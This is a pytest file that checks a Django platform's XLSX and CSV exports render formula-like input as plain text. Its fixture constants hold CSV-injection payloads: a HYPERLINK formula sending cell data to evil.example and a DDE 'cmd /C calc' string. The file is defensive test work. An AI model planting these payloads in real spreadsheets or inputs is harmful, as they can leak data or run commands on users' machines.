"""Every XLSX and CSV the platform writes shows hostile text as text, never as a formula.

A task title, area, objective, plan title and unit name that start with ``=``, ``+``, ``-``, ``@``
go through each export (task list, plan table, plan template, org tree XLSX/CSV, the tasks CLI,
a chart's table) and are read back with openpyxl: no cell is a formula, the text is all there.
"""

from __future__ import annotations

import csv
import io

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from cchc.core.charts import Chart, Series
from cchc.domain.cells import FORMULA_TRIGGERS
from cchc.testing.factories import make_area, make_task
from cchc.tracking.actions import do_assign_plan

HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
HOSTILE_AREA = "+CẢI CÁCH THỂ CHẾ"
HOSTILE_OBJECTIVE = "-2+3"
HOSTILE_UNIT = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_PLAN = "\t=1+1 Kế hoạch"


@pytest.fixture
def hostile(plan_setup):
    plan = plan_setup["plan"]
    plan.title = HOSTILE_PLAN
    plan.save(update_fields=["title"])
    unit = plan_setup["units"]["HP-STP"]
    unit.name = HOSTILE_UNIT
    unit.save(update_fields=["name"])
    area = make_area(plan, title=HOSTILE_AREA, code="", order=9)
    make_task(
        plan,
        HOSTILE_TITLE,
        area=area,
        lead=[unit],
        objective=HOSTILE_OBJECTIVE,
        timeframe_text="2024",
        start_year=2024,
        end_year=2024,
    )
    do_assign_plan(plan, actor=None)
    return plan_setup


def _cells(data: bytes):
    book = load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def assert_plain_text(data: bytes, *expected: str) -> None:
    texts = []
    for cell in _cells(data):
        assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
        if isinstance(cell.value, str):
            assert cell.value[:1] not in FORMULA_TRIGGERS, f"{cell.coordinate}: {cell.value!r}"
            texts.append(cell.value)
    joined = "\n".join(texts)
    for text in expected:
        assert "'" + text in joined, f"{text!r} not in the export as text"


def test_task_list_xlsx(hostile, login):
    client = login(hostile["users"]["officer"])
    response = client.get("/nhiem-vu/danh-sach/?format=xlsx")
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment")
    assert_plain_text(response.content, HOSTILE_TITLE, HOSTILE_AREA, HOSTILE_UNIT)


def test_plan_table_xlsx(hostile, login):
    client = login(hostile["users"]["officer"])
    response = client.get(f"/nhiem-vu/ke-hoach/{hostile['plan'].pk}/?format=xlsx")
    assert response.status_code == 200
    assert_plain_text(response.content, HOSTILE_TITLE, HOSTILE_AREA, HOSTILE_OBJECTIVE)


def test_plan_template_export_and_its_round_trip(hostile, login):
    from cchc.domain.planparse.template import read_template

    client = login(hostile["users"]["officer"])
    response = client.get(f"/ke-hoach/{hostile['plan'].pk}/xuat-xlsx/")
    assert response.status_code == 200
    assert_plain_text(response.content, HOSTILE_TITLE, HOSTILE_AREA, HOSTILE_OBJECTIVE)
    # Our own template read back gives the text as it was, without the protective apostrophe.
    plan = read_template(response.content)
    titles = [t["title"] for t in plan["tasks"]] + [t.get("parent") or "" for t in plan["tasks"]]
    assert HOSTILE_TITLE in titles
    assert HOSTILE_OBJECTIVE in [t.get("objective") for t in plan["tasks"]]


def test_org_tree_xlsx_and_csv(hostile, login):
    client = login(hostile["users"]["admin"])
    response = client.get("/co-quan/xuat/?format=xlsx")
    assert response.status_code == 200
    assert_plain_text(response.content, HOSTILE_UNIT)
    text = client.get("/co-quan/xuat/").content.decode("utf-8-sig")
    names = [row[4] for row in csv.reader(io.StringIO(text))]
    assert "'" + HOSTILE_UNIT in names
    assert not any(name[:1] in FORMULA_TRIGGERS for name in names)


def test_org_tree_csv_round_trips_through_the_importer(hostile, login):
    from cchc.orgs.importing import read_rows

    client = login(hostile["users"]["admin"])
    rows = read_rows(client.get("/co-quan/xuat/").content, "co-quan.csv")
    assert HOSTILE_UNIT in [row["name"] for row in rows]


def test_tasks_cli_xlsx(hostile, tmp_path):
    out = tmp_path / "t.xlsx"
    call_command("tasks", "list", "--format", "xlsx", "--out", str(out), "--as-of", "2024-01-01")
    assert_plain_text(out.read_bytes(), HOSTILE_TITLE, HOSTILE_UNIT)


def test_chart_table_xlsx():
    chart = Chart(title=HOSTILE_PLAN, categories=[HOSTILE_UNIT], series=[Series(HOSTILE_AREA, [1.5])])
    assert_plain_text(chart.xlsx(), HOSTILE_UNIT, HOSTILE_AREA)
